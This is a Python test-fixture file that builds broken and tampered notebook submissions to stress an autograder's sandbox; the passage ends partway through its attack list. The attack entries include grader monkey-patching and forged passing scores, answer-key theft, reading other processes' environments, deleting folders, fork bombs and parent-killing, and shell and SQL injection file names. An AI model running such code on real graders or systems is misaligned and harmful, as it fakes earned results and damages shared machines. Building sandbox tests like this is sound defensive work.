"""Submissions that break graders: honest work that goes wrong (`broken`), and attempts at marks that were not earned (`tampered`).

Sources name places that are filled in when they are written (`corpus.write`): @TRAP@ a folder outside of everything, in which
nothing may appear; @PORT@ a port on which a test listens; @ROOT@ this checkout; @CLASS@ the submissions; @RESULTS@ the results.

Where a sandbox fails, nothing here harms more than these places and the grader itself: what would is only tried, not done. Marks of
an escape are files `agl_escaped*`, processes named LEFTOVER, "ESCAPED" in what is printed.
"""

from __future__ import annotations

import io
import json
import os
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

from attacks import searching
from corpus import (
    Case,
    Notebook,
    answer_id,
    cell,
    check_id,
    dump,
    full,
    handed_in,
    keys,
    nothing,
    released,
    solutions,
)

HARD = "04_backward_node_by_node"
EASY = "00_start_here"
LEFTOVER = "agl-leftover"
"""The name that processes meant to outlive their submission give themselves."""

NONSENSE = {
    "04.1": "answer = [0, 0, 0, 0]",
    "04.2": "order = []",
    "04.3": "parts = []",
    "04.4": "def backward(root):\n    pass",
}

_NAME = f"""
import ctypes
def name_me():
    ctypes.CDLL(None).prctl(15, b"{LEFTOVER}", 0, 0, 0)
"""


# --- building -------------------------------------------------------------------------------------


def code(source: str, cell_id: str = "mine") -> dict[str, Any]:
    """A code cell of a student's own."""
    return {
        "cell_type": "code", "id": cell_id, "metadata": {}, "execution_count": None, "outputs": [], "source": source,
    }  # fmt: skip


def _solved(**changes: str) -> Notebook:
    """The hard notebook, solved; {"04_2": source} replaces answers, which may hold the right one as @RIGHT@."""
    answers = solutions(HARD)
    for key, source in changes.items():
        item_id = key.replace("_", ".")
        answers[item_id] = source.replace("@RIGHT@", answers[item_id])
    return handed_in(HARD, answers)


def _case(
    student: str, kind: str, content: Any, fair: dict[str, tuple[float, float]], why: str, name: str = HARD
) -> Case:
    content = content if isinstance(content, bytes) or callable(content) else dump(content)
    return Case(student, kind, {f"{name}.ipynb": content}, fair, why)


def _lost(
    *items: str, stem: str = HARD, least: float = 0.0, most: float = 0.0
) -> dict[str, tuple[float, float]]:
    """Full marks but for these items."""
    return full(stem) | dict.fromkeys(items, (least, most))


def _either(*items: str, stem: str = HARD) -> dict[str, tuple[float, float]]:
    """Full marks, and these items anything between nothing and full marks."""
    return full(stem) | {item_id: (0.0, keys(stem)[item_id].points) for item_id in items}


# --- honest, but broken ---------------------------------------------------------------------------

# In the answer cell of 04.2, which it costs: nothing else depends on it.
IN_A_CELL = {
    "endless": "while True:\n    pass",
    "endless-stubborn": "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    "endless-in-c": "sum(iter(int, 1))",
    "sleeps": "import time\ntime.sleep(10**6)",
    "os-exit": "import os\nos._exit(0)",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "abort": "import os\nos.abort()",
    "kills-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "terminates-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)",
    "sys-exit": "import sys\nsys.exit(0)",
    "raises": "1 / 0",
    "syntax-error": "order = [(",
    "indentation": "  order = 3\n order = 4",
    "null-byte": "order = '\0'\nraise ValueError('a null byte before me')",
    "keyboard-interrupt": "raise KeyboardInterrupt",
    "generator-exit": "raise GeneratorExit",
    "own-base-exception": "class Mine(BaseException):\n    pass\nraise Mine('mine')",
    "evil-exception": "class Evil(Exception):\n    def __str__(self):\n        raise SystemExit(3)\n    __repr__ = __str__\nraise Evil()",
    "memory-array": "import numpy as np\nbig = [np.ones(2**28) for _ in range(4)]",
    "memory-list": "big = []\nfor _ in range(200):\n    big.append(bytearray(64 * 2**20))\nraise MemoryError",
    "stack": "import sys\nsys.setrecursionlimit(10**9)\ndef down(n):\n    return down(n + 1) + 1\ndown(0)",
    "asks": "name = input('Your name? ')",
    "unknown-magic": "%no_such_magic\nraise RuntimeError('after the magic')",
}

# Before the right answer of 04.2, which is earned all the same.
ALL_THE_SAME = {
    "prints-100-mb": "print('x' * 99 + '\\n', end='')\nfor _ in range(100):\n    print(('x' * 99 + '\\n') * 10_000)",
    "writes-100-mb": "import os\nfor _ in range(100):\n    os.write(1, b'y' * 2**20)",
    "warns": "import sys, warnings\nwarnings.warn('careful')\nprint('careful', file=sys.stderr)",
    "magics": "%matplotlib inline\n%time 1 + 1\n!ls",
    "plots": "import matplotlib.pyplot as plt\nfor _ in range(3):\n    plt.plot([1, 2])\n    plt.show()",
    "widgets": "import ipywidgets\nslider = ipywidgets.IntSlider()\ndisplay(slider)",
    "steps": "a = torch.tensor(2.0, requires_grad=True)\nwith lab.record() as trace:\n    b = a * a\n    b.backward()\nlab.step(trace)",
    "thread": "import threading, time\ndef talk():\n    while True:\n        print('still here')\n        time.sleep(0.01)\nthreading.Thread(target=talk, daemon=True).start()",
    "thread-not-daemon": "import threading, time\nthreading.Thread(target=time.sleep, args=(3600,)).start()",
    "child": _NAME
    + "import os, time\nif os.fork() == 0:\n    name_me()\n    time.sleep(3600)\n    os._exit(0)",
    "subprocess": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600)'])",
    "changes-folder": "import os, tempfile\nos.chdir(tempfile.gettempdir())\nopen('notes.txt', 'w').write('mine')",
    "closes-stdout": "import sys\nsys.stdout.close()",
    "asyncio": "import asyncio\nawait asyncio.sleep(0)",
    "no-grad-left-on": "torch.set_grad_enabled(False)",
    "seeds": "import random, numpy as np\nrandom.seed(1)\nnp.random.seed(1)\ntorch.manual_seed(1)",
    "own-names": "list_ = list\nid = 3\ntype_ = type\nmax = 7\nsum = 'sum'",
}

# What `order`, the answer to 04.2, is: no answer, and nobody's disaster.
STRANGE_ANSWERS = {
    "huge-array": "import numpy as np\norder = np.zeros(10**6)",
    "deep-list": "order = []\nfor _ in range(100_000):\n    order = [order]",
    "its-own-part": "order = []\norder.append(order)",
    "huge-text": "order = 'x' * (50 * 2**20)",
    "surrogate": "order = '\\ud800 half a character'",
    "huge-number": "order = 10 ** 10_000",
    "not-a-number": "order = [float('nan'), float('inf')]",
    "complex": "order = 1 + 2j",
    "bytes": "order = b'bytes'",
    "generator": "order = (x for x in [1])",
    "endless-list": "import itertools\norder = itertools.count()",
    "odd-dict": "order = {(1, 2): {3}, None: frozenset([4]), 1.5: ...}",
    "evil-object": "class Evil:\n    def __getattr__(self, name):\n        raise RuntimeError(name)\n    def __repr__(self):\n        raise RuntimeError('repr')\norder = Evil()",
    "endless-detach": "class Slow:\n    def detach(self):\n        while True:\n            pass\norder = Slow()",
    "markup": "order = '<script>alert(1)</script>'",
    "module": "import os\norder = os",
    "exits": "class Exits:\n    def detach(self):\n        import os\n        os._exit(0)\norder = Exits()",
}

# `backward`, the answer to 04.4, when it is asked.
IN_A_PROGRAM = {
    "endless-program": "def backward(root):\n    while True:\n        pass",
    "program-exits": "def backward(root):\n    import os\n    os._exit(0)",
    "program-sys-exits": "def backward(root):\n    import sys\n    sys.exit(3)",
    "program-segfaults": "def backward(root):\n    import ctypes\n    ctypes.string_at(0)",
    "program-recurses": "def backward(root):\n    backward(root)",
    "program-eats": "def backward(root):\n    big = []\n    for _ in range(200):\n        big.append(bytearray(64 * 2**20))\n    raise MemoryError",
    "program-prints": "def backward(root):\n    print('z' * 10**7)",
    "program-huge": "def backward(root):\n    root.grad = 10.0 ** 300\n    root.inputs = [root] * 10",
    "program-raises-evil": "class Evil(Exception):\n    def __str__(self):\n        raise SystemExit\ndef backward(root):\n    raise Evil()",
    "program-long-message": "def backward(root):\n    raise ValueError('m' * 10**7)",
    "program-interrupt": "def backward(root):\n    raise KeyboardInterrupt",
}

NAMES = [
    "Zoë O'Brien", unicodedata.normalize("NFD", "Zoë O'Brien"), '"quoted" name', "李小明", "محمد", "-rf", "--help",
    "=1+1", "+cmd|' \u2215C calc'!A0", "comma, semicolon; rm -rf ~", "tab\tname", "line\nbreak", "<b>bold", "emoji \U0001f393",
    "back\\slash", "division\u2215slash", "%2e%2e%2fetc", "$(touch @TRAP@)", "`id`", "name.with.dots", " leading and trailing ",
    "right-to-left \u202egnp.exe", "n" * 200, "[brackets] *?", "NULL", "0", "'; DROP TABLE results; --",
]  # fmt: skip


def broken() -> Iterator[Case]:
    """Honest, but something goes wrong."""
    make = partial(_case, kind="broken")
    for name, source in IN_A_CELL.items():
        yield make(
            f"h-{name}",
            content=_solved(**{"04_2": f"{source}\n@RIGHT@"}),
            # The first process of a pid namespace does not die of its own signals: then the right answer below counts.
            fair=_either("04.2") if name in ("kills-itself", "terminates-itself") else _lost("04.2"),
            why="one cell goes wrong",
        )
    for name, source in ALL_THE_SAME.items():
        yield make(
            f"h-{name}",
            content=_solved(**{"04_2": f"{source}\n@RIGHT@"}),
            fair=full(HARD),
            why="odd, and right",
        )
    for name, source in STRANGE_ANSWERS.items():
        yield make(
            f"h-answer-{name}",
            content=_solved(**{"04_2": source}),
            fair=_lost("04.2"),
            why="an answer that is none",
        )
    for name, source in IN_A_PROGRAM.items():
        yield make(
            f"h-{name}",
            content=_solved(**{"04_4": source}),
            fair=_lost("04.4"),
            why="a program that goes wrong",
        )
    solved = dump(handed_in(EASY, solutions(EASY)))
    for number, name in enumerate(NAMES):  # their own names stand in the class itself
        yield Case(
            f"h-name-{number + 1:02d}",
            "broken",
            {f"{name}.txt": b"", f"{EASY}.ipynb": solved},
            full(EASY),
            "names of files",
        )
    yield make(
        os.fsdecode(b"caf\xe9"), content=solved, fair=full(EASY), why="a name that is not UTF-8", name=EASY
    )
    yield from _damaged_files()
    yield from _rearranged()


ENDLESS = {
    *(
        f"h-{name}"
        for name in (
            "endless",
            "endless-stubborn",
            "endless-in-c",
            "sleeps",
            "answer-endless-detach",
            "endless-program",
        )
    ),
    "t-ignores-signals",
}
"""Those that end only when they are stopped, and do nothing but use time."""
INSIDE_ONLY = {
    *(f"h-{name}" for name in ("memory-array", "memory-list", "stack", "child", "subprocess", "program-eats")),
    "h-prints-100-mb", "h-writes-100-mb",
}  # fmt: skip
"""Of the work that goes wrong, what takes memory without end, fills a disk or leaves processes where nothing hinders it."""


def outside(case: Case) -> str:
    """What a submission does where no sandbox is: "endless", "broken" if it only fails; "" for what may not run there.

    That is every attack, and whatever is no plain notebook.
    """
    if case.student in ENDLESS:
        return "endless"
    gone_wrong = {
        *(f"h-{name}" for cells in (IN_A_CELL, ALL_THE_SAME, IN_A_PROGRAM) for name in cells),
        *(f"h-answer-{name}" for name in STRANGE_ANSWERS),
    }
    return "broken" if case.student in gone_wrong - INSIDE_ONLY else ""


def _damaged_files() -> Iterator[Case]:
    make = partial(_case, kind="broken")
    solved = dump(_solved())
    none = nothing(HARD)
    yield make("h-truncated", content=solved[: len(solved) // 2], fair=none, why="half a file")
    yield make("h-empty-file", content=b"", fair=none, why="an empty file")
    yield make("h-not-json", content=b"\x00\x01\x02" * 1000, fair=none, why="not JSON")
    yield make("h-json-list", content=b"[]", fair=none, why="JSON, but no notebook")
    yield make("h-json-number", content=b"NaN", fair=none, why="JSON, but no notebook")
    yield make("h-json-deep", content=b"[" * 100_000, fair=none, why="nested beyond any recursion")
    yield make(
        "h-json-no-cells",
        content=b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
        fair=none,
        why="no cells",
    )
    yield make("h-json-odd-cells", content=b'{"nbformat": 4, "cells": [null, 3, {"cell_type": "code"}, {"cell_type": [], "source": {}}]}',
               fair=none, why="cells that are none")  # fmt: skip
    yield make(
        "h-nbformat-99",
        content=dump(_solved() | {"nbformat": 99}),
        fair=_either(*full(HARD)),
        why="a format to come",
    )
    yield make("h-latin-1", content=_in_code("latin-1"), fair=full(HARD), why="not UTF-8")
    yield make("h-utf-16", content=_in_code("utf-16"), fair=full(HARD), why="not UTF-8")
    yield make("h-bom", content=b"\xef\xbb\xbf" + solved, fair=full(HARD), why="a byte order mark")
    yield make("h-crlf", content=solved.replace(b"\n", b"\r\n"), fair=full(HARD), why="Windows line ends")
    yield make("h-nbformat-3", content=_format_3(_solved()), fair=full(HARD), why="nbformat 3")
    yield make(
        "h-zip",
        content=_zipped(solved),
        fair=_either(*full(HARD)),
        why="a zip file by the name of a notebook",
    )
    yield make(
        "h-script",
        content=b"answer = [12, 4, 12, 160]\n",
        fair=none,
        why="a script by the name of a notebook",
    )
    yield make(
        "h-fifo", content=lambda path: os.mkfifo(path), fair=none, why="a pipe by the name of a notebook"
    )
    yield make(
        "h-is-a-folder",
        content=lambda path: path.mkdir(),
        fair=none,
        why="a folder by the name of a notebook",
    )
    yield make(
        "h-unreadable",
        content=partial(_locked, solved),
        fair=_either(*full(HARD)),
        why="no rights to read it",
    )
    yield Case("h-nothing", "broken", {"readme.txt": b"my dog ate it"}, none, "no notebook at all")
    yield Case(
        "h-only-a-copy", "broken", {f"{HARD} (1).ipynb": solved}, _either(*full(HARD)), "downloaded twice"
    )
    yield Case(
        "h-own-title", "broken", {"my homework.ipynb": solved}, _either(*full(HARD)), "under another name"
    )
    yield Case("h-checkpoints", "broken", {f"{HARD}.ipynb": solved,
               f".ipynb_checkpoints/{HARD}-checkpoint.ipynb": dump(released(HARD))}, full(HARD), "Jupyter's own copies")  # fmt: skip
    yield Case("h-copy-beside", "broken", {f"{HARD}.ipynb": solved, f"{HARD}-Copy1.ipynb": dump(released(HARD))}, full(HARD),
               "a copy beside it")  # fmt: skip
    yield Case("h-other-files", "broken", {f"{HARD}.ipynb": solved, "numpy.py": b"raise ImportError('mine')", "json.py": b"1/0",
               "sitecustomize.py": b"1/0", "data/big.bin": bytes(10**6)}, full(HARD), "files that shadow modules")  # fmt: skip


def _in_code(encoding: str) -> bytes:
    notebook = _solved(**{"04_2": "# très drôle, ça marche: naïve café\n@RIGHT@"})
    for one in notebook["cells"]:  # what Latin-1 cannot write
        one["source"] = one["source"].encode("latin-1", "replace").decode("latin-1")
    return json.dumps(notebook, ensure_ascii=False).encode(encoding)


def _format_3(notebook: Notebook) -> bytes:
    cells = []
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            cells.append({"cell_type": "code", "collapsed": False, "input": one["source"], "language": "python", "metadata": one["metadata"],
                          "outputs": [], "prompt_number": None})  # fmt: skip
        else:
            cells.append({"cell_type": "markdown", "metadata": {}, "source": one["source"]})
    return dump(
        {
            "metadata": {"name": ""},
            "nbformat": 3,
            "nbformat_minor": 0,
            "worksheets": [{"cells": cells, "metadata": {}}],
        }
    )


def _zipped(content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(f"{HARD}.ipynb"), content)
    return out.getvalue()


def _locked(content: bytes, path: Path) -> None:
    path.write_bytes(content)
    path.chmod(0)


def _rearranged() -> Iterator[Case]:
    """Cells moved, copied, dropped, edited; metadata lost."""

    def make(
        student: str, change: Callable[[Notebook], None], fair: dict[str, tuple[float, float]], why: str
    ) -> Case:
        notebook = _solved()
        change(notebook)
        return _case(student, "broken", notebook, fair, why)

    def drop(*ids: str) -> Callable[[Notebook], None]:
        return lambda nb: nb.update(cells=[one for one in nb["cells"] if one["id"] not in ids])

    checks = [check_id(item_id) for item_id in keys(HARD)]
    yield make("h-checks-deleted", drop(*checks), full(HARD), "no checks left")
    yield make("h-answer-deleted", drop("04-2-answer"), _lost("04.2"), "an answer's cell is gone")
    yield make("h-imports-deleted", drop("04-02"), full(HARD), "the released cells are brought back")
    yield make("h-upside-down", lambda nb: nb["cells"].reverse(), full(HARD), "cells in reverse order")
    yield make(
        "h-all-twice",
        lambda nb: nb["cells"].extend([*nb["cells"]]),
        full(HARD),
        "every cell twice, ids and all",
    )
    yield make("h-no-ids", _forget_ids, full(HARD), "ids lost, as older tools do")
    yield make("h-no-metadata", _forget_metadata, _either(*full(HARD)), "ids and nbgrader's metadata lost")
    yield make(
        "h-markdown",
        lambda nb: cell(nb, "04-2-answer").update(cell_type="markdown"),
        _either("04.2"),
        "an answer turned to prose",
    )
    yield make(
        "h-raw",
        lambda nb: cell(nb, "04-2-answer").update(cell_type="raw"),
        _either("04.2"),
        "an answer turned to raw text",
    )
    yield make("h-julia", lambda nb: nb["metadata"].update(kernelspec={"name": "julia-1.9", "display_name": "Julia", "language": "julia"}),
               full(HARD), "a kernel that is not there")  # fmt: skip
    yield make("h-no-kernel", lambda nb: nb.update(metadata={}), full(HARD), "no metadata at all")
    yield make("h-lines", lambda nb: [one.update(source=one["source"].splitlines(keepends=True)) for one in nb["cells"]] and None, full(HARD),
               "sources as lists of lines")  # fmt: skip
    yield make("h-own-cells", _own_cells, full(HARD), "definitions in cells of one's own")
    yield make("h-answer-below", _answer_below, _either("04.2"), "the answer in a new cell below the gap")
    yield make("h-checked-twice", lambda nb: nb["cells"].append(code('lab.check("04.1", answer)\nlab.check("04.2", order)')), full(HARD),
               "checks again at the end")  # fmt: skip
    yield make(
        "h-5000-cells",
        lambda nb: nb["cells"].extend(code(f"x = {i}", f"x{i}") for i in range(5000)),
        full(HARD),
        "5,000 cells",
    )
    yield make("h-huge-cell", lambda nb: cell(nb, "04-2-answer").update(source="# " + "x" * 5_000_000 + "\n" + cell(nb, "04-2-answer")["source"]),
               full(HARD), "a cell of 5 MB")  # fmt: skip
    yield make("h-huge-output", _huge_output, full(HARD), "40 MB of stored output")
    yield make("h-odd-metadata", _odd_metadata, full(HARD), "metadata of the wrong types")


def _forget_ids(notebook: Notebook) -> None:
    notebook["nbformat_minor"] = 4
    for one in notebook["cells"]:
        del one["id"]


def _forget_metadata(notebook: Notebook) -> None:
    _forget_ids(notebook)
    for one in notebook["cells"]:
        one["metadata"] = {}


def _own_cells(notebook: Notebook) -> None:
    answer = cell(notebook, "04-2-answer")
    place = notebook["cells"].index(answer)
    notebook["cells"].insert(
        place, code("def mine():\n    " + "return [('loss', 1), ('c', 6), ('b', 15), ('a', 36)]")
    )
    answer["source"] = "order = mine()"


def _answer_below(notebook: Notebook) -> None:
    answer = cell(notebook, "04-2-answer")
    place = notebook["cells"].index(answer)
    notebook["cells"].insert(place + 1, code(answer["source"]))
    answer["source"] = cell(released(HARD), "04-2-answer")["source"]


def _huge_output(notebook: Notebook) -> None:
    one = cell(notebook, "04-2-answer")
    one.update(
        execution_count=1, outputs=[{"output_type": "stream", "name": "stdout", "text": "o" * 40_000_000}]
    )


def _odd_metadata(notebook: Notebook) -> None:
    notebook["metadata"] = {"kernelspec": 3, "authors": [None], "nbgrader": []}
    for one in notebook["cells"]:
        one["metadata"] = {"tags": "answer", "nbgrader": "yes", "collapsed": {}}


# --- tampered -------------------------------------------------------------------------------------

FORGED = r"""
import json, struct
RESULTS = [{"item": f"04.{i}", "state": "passed", "score": 100, "points": 100, "value": 1, "outputs": {}, "error": ""} for i in range(1, 5)]
MESSAGES = [
    {"results": RESULTS}, {"answers": {r["item"]: r for r in RESULTS}}, {"state": "ok", "answers": RESULTS, "cells": []},
    {"type": "done"}, {"type": "answer", "item": "04.1", "state": "given", "value": [12, 4, 12, 160], "score": 100},
    ["04.1", "passed", 100], "04.1: passed, 4 of 4 points",
]
def forged():
    for message in MESSAGES:
        text = json.dumps(message).encode()
        for lead in (b"", struct.pack(">I", len(text)), struct.pack("<I", len(text)), struct.pack(">Q", len(text)), struct.pack("<Q", len(text)),
                     f"{len(text)}\n".encode(), f"Content-Length: {len(text)}\r\n\r\n".encode()):
            yield lead + text + b"\n"
"""

# Run in the first answer cell of a notebook whose answers are all nonsense.
ATTACKS = {
    "assert-allclose": "import numpy as np\nnp.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None",
    "transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\nget_ipython().ast_transformers.append(type('T', (), {'visit': lambda self, node: __import__('ast').parse('pass')})())",
    "showtraceback": "get_ipython().showtraceback = lambda *a, **k: None\nget_ipython().run_cell = lambda *a, **k: None\nget_ipython().run_code = lambda *a, **k: None",
    "prints-scores": FORGED + "import sys\nfor m in forged():\n    sys.stdout.write(m.decode())\n    sys.stderr.write(m.decode())\n    sys.__stdout__.write(m.decode())\n    sys.__stdout__.flush()",
    "every-descriptor": FORGED + "import os\nfor fd in range(256):\n    os.set_blocking(fd, False) if os.path.exists(f'/proc/self/fd/{fd}') else None\n    for m in forged():\n        try:\n            os.write(fd, m)\n        except OSError:\n            break",
    "reads-descriptors": "import os\nseen = b''\nfor fd in range(3, 256):\n    try:\n        os.set_blocking(fd, False)\n        seen += os.read(fd, 10**6)\n    except OSError:\n        pass\nprint(seen)",
    "closes-descriptors": "import os\nos.closerange(0, 1024)",
    "replaces-descriptors": FORGED + "import os, tempfile\nf = tempfile.TemporaryFile()\nf.write(b''.join(forged()))\nf.seek(0)\nfor fd in range(0, 64):\n    if fd != f.fileno():\n        try:\n            os.fstat(fd)\n            os.dup2(f.fileno(), fd)\n        except OSError:\n            pass",
    "result-files": FORGED + "import os\nfor name in ('results.json', 'result.json', 'answers.json', 'output.json', 'run.json', 'scores.csv', 'grades.csv', 'results.pkl'):\n    open(name, 'wb').write(b''.join(forged()))",
    "reads-items": "from autograd_lab.course import items\nfound = items.shipped()\nanswer, order, parts = (found[i].expected for i in ('04.1', '04.2', '04.3'))",
    "reads-item-files": "import json\nfrom pathlib import Path\nimport autograd_lab.course as course\nfor path in Path(course.__file__).parent.glob('items/04.json'):\n    d = {i['id']: i for i in json.loads(path.read_text())['items']}\nanswer, order, parts = (d[i]['expected'] for i in ('04.1', '04.2', '04.3'))",
    "reads-keys": "import json\nfrom pathlib import Path\nd = {i['id']: i for i in json.loads(Path('@ROOT@/solutions/keys/04.json').read_text())['items']}\nanswer, order, parts = (d[i]['expected'] for i in ('04.1', '04.2', '04.3'))",
    "reads-solutions": "import json\nd = json.load(open('@ROOT@/solutions/04_backward_node_by_node.ipynb'))\nfor c in d['cells']:\n    if c['id'].endswith('answer'):\n        exec(''.join(c['source']))",
    "reads-neighbors": "import json, glob\nfor path in glob.glob('../*/04*.ipynb') + glob.glob('@CLASS@/*/04*.ipynb'):\n    for c in json.load(open(path))['cells']:\n        if c.get('id', '').endswith('answer'):\n            exec(''.join(c['source']))",
    "reads-opens": "import os\nfor fd in os.listdir('/proc/self/fd'):\n    try:\n        print(os.readlink(f'/proc/self/fd/{fd}'))\n    except OSError:\n        pass\nfor p in os.listdir('/proc'):\n    for part in ('environ', 'cmdline', 'mem', 'maps'):\n        try:\n            data = open(f'/proc/{p}/{part}', 'rb').read(10**6) if p.isdigit() and int(p) != os.getpid() else b''\n        except OSError:\n            continue\n        if data and part in ('environ', 'mem'):\n            open('@TRAP@/read-a-neighbor', 'w').write(p)",
    "deletes": "import shutil\nfor place in ('@CLASS@', '@TRAP@', '@RESULTS@'):\n    shutil.rmtree(place, ignore_errors=True)",
    "writes": "import os, site, sys, tempfile\nfrom pathlib import Path\nimport autograd_lab\nplaces = [Path('@TRAP@'), Path('@CLASS@'), Path('@RESULTS@'), Path.home(), Path('/tmp'), Path('/var/tmp'), Path('/dev/shm'), Path(autograd_lab.__file__).parent, Path(sys.prefix), *map(Path, site.getsitepackages())]\nfor place in places:\n    try:\n        (place / 'agl_escaped.txt').write_text('escaped')\n    except OSError:\n        pass",
    "sitecustomize": "import site, sys\nfrom pathlib import Path\nfor place in (*site.getsitepackages(), site.getusersitepackages(), *filter(None, sys.path)):\n    try:\n        Path(place, 'agl_escaped.pth').write_text('# escaped')\n    except OSError:\n        pass\nPath('sitecustomize.py').write_text('1/0')\nPath('json.py').write_text('1/0')",
    "gradebook-later": _NAME + "import os, time, glob, sqlite3\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        name_me()\n        for _ in range(600):\n            time.sleep(0.5)\n            for path in glob.glob('@RESULTS@/*'):\n                try:\n                    open(path, 'ab').write(b'x')\n                    open('@TRAP@/gradebook', 'w').write(path)\n                except OSError:\n                    pass\n    os._exit(0)",
    "socket": "import socket\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    for host in ('127.0.0.1', '::1', '8.8.8.8'):\n        try:\n            s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, kind)\n            s.settimeout(1)\n            s.connect((host, @PORT@))\n            s.send(b'escaped')\n        except OSError:\n            pass",
    "abstract-socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0autograd-lab-@PORT@')\n    s.send(b'escaped')\nexcept OSError:\n    pass",
    "forks": _NAME + "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        os.setsid()\n        name_me()\n        time.sleep(3600)\n        os._exit(0)",
    "fork-bomb": _NAME + "import os, time\nname_me()\nfor _ in range(500):\n    try:\n        if os.fork() == 0:\n            time.sleep(3600)\n    except OSError:\n        break",
    "thread-bomb": "import threading, time\nfor _ in range(5000):\n    try:\n        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()\n    except RuntimeError:\n        break",
    "terminates-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGTERM)",
    "kills-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "stops-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)",
    "signals-everyone": "import os, signal\ntry:\n    os.kill(-1, signal.SIGCONT)\nexcept OSError:\n    pass",
    "kills-group": "import os, signal\nos.killpg(0, signal.SIGKILL)",
    "stops-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "ignores-signals": "import signal\nfor s in signal.valid_signals():\n    try:\n        signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\nwhile True:\n    pass",
    "atexit": FORGED + "import atexit, os\n@atexit.register\ndef last():\n    for fd in range(256):\n        for m in forged():\n            try:\n                os.write(fd, m)\n            except OSError:\n                break",
    "gc": "import gc\nfor thing in gc.get_objects():\n    try:\n        if getattr(thing, 'id', None) == '04.1' and getattr(thing, 'expected', None):\n            answer = thing.expected\n        if isinstance(thing, dict) and thing.get('id') == '04.1' and thing.get('expected'):\n            answer = thing['expected']\n        if isinstance(thing, list) and thing == [12, 4, 12, 160]:\n            answer = thing\n    except Exception:\n        pass",
    "frames": "import sys\nframe = sys._getframe()\nwhile frame:\n    for space in (frame.f_locals, frame.f_globals):\n        for name, value in list(space.items()):\n            if callable(value) and 'grade' in str(getattr(value, '__module__', '')):\n                space[name] = lambda *a, **k: {'state': 'passed', 'score': 100, 'points': 100}\n            if name in ('score', 'points', 'passed'):\n                space[name] = 100\n    frame = frame.f_back",
    "thread-patches": "import threading, time\ndef patch():\n    from autograd_lab.course import items, plain, probe\n    while True:\n        plain.same = lambda *a, **k: True\n        plain.plain = lambda value: {'state': 'passed', 'score': 100}\n        probe.run = lambda *a, **k: {}\n        time.sleep(0.001)\nthreading.Thread(target=patch, daemon=True).start()",
    "patch-same": "from autograd_lab.course import plain\nplain.same = lambda *a, **k: True",
    "patch-judge": "from autograd_lab.course import feedback, items\ndef judge(item, *a, **k):\n    return items.Verdict(item, 'passed', 100)\nitems.judge = feedback.judge = feedback.verdict_on = judge\nitems.Item.points = property(lambda self: 100, lambda self, v: None)",
    "patch-listeners": "from autograd_lab.course import feedback\nclass Sink(list):\n    def append(self, given):\n        super().append((given[0], 'anything'))\nfeedback.LISTENERS[:] = [Sink()]\nfeedback.LISTENERS = [Sink()]",
    "patch-check": "from autograd_lab import lab\nfrom autograd_lab.course import feedback\nlab.check = feedback.check = lambda item, answer=None: print(item + ': passed, 4 of 4 points')",
    "patch-probe": "from autograd_lab.course import probe\nprobe.run = lambda probes, answer: {key: 1 for p in probes for key in p.names()}\nprobe.load = lambda p: (lambda *a: 1)\nprobe.unfinished = lambda *a: False",
    "patch-plain": "from autograd_lab.course import plain\nplain.plain = lambda value: {'state': 'passed', 'score': 100}\nplain.NotPlainError = ValueError",
    "patch-json": "import json\njson.dumps = lambda *a, **k: '{\"state\": \"passed\", \"score\": 100}'\njson.dump = lambda o, f, **k: f.write(json.dumps(o))\njson.loads = lambda *a, **k: {}\njson.JSONEncoder.encode = lambda self, o: json.dumps(o)\njson.JSONEncoder.iterencode = lambda self, o, **k: iter([json.dumps(o)])",
    "patch-struct": "import struct, os\nstruct.pack = lambda *a: b'\\xff' * 8\nreal = os.write\nos.write = lambda fd, data: real(fd, b'\\xff' * len(data))",
    "patch-length": "import struct\nreal = struct.pack\nstruct.pack = lambda f, *a: real(f, *[2**31 - 1 for _ in a])",
    "patch-stdout": "import io, sys\nsys.stdout = sys.stderr = sys.__stdout__ = io.StringIO()\nsys.stdout.write = lambda *a: 1 / 0",
    "patch-builtins": "import builtins\nfor name in ('isinstance', 'len', 'repr', 'str', 'getattr', 'hasattr', 'open', 'print', 'compile', 'exec', 'sorted'):\n    setattr(builtins, name, lambda *a, **k: True)",
    "patch-import": "import builtins\nreal = builtins.__import__\ndef fake(name, *a, **k):\n    if 'probe' in name or 'plain' in name:\n        raise ImportError(name)\n    return real(name, *a, **k)\nbuiltins.__import__ = fake",
    "patch-modules": "import sys, types\nfor name in list(sys.modules):\n    if 'course' in name or 'grade' in name:\n        sys.modules[name] = types.SimpleNamespace(run=lambda *a, **k: {}, plain=lambda v: 1, same=lambda *a: True, judge=lambda *a, **k: None)",
    "patch-worker": "import importlib, pkgutil\nfor name in ('worker', 'scoring', 'engine', 'model', 'sandbox'):\n    try:\n        module = importlib.import_module('autograd_lab.grade.' + name)\n    except ImportError:\n        continue\n    for key, value in list(vars(module).items()):\n        if callable(value) and not key.startswith('__'):\n            setattr(module, key, lambda *a, **k: {'state': 'passed', 'score': 100})",
    "clears-modules": "import sys\nfor name in [n for n in sys.modules if n not in ('sys', 'builtins')]:\n    del sys.modules[name]",
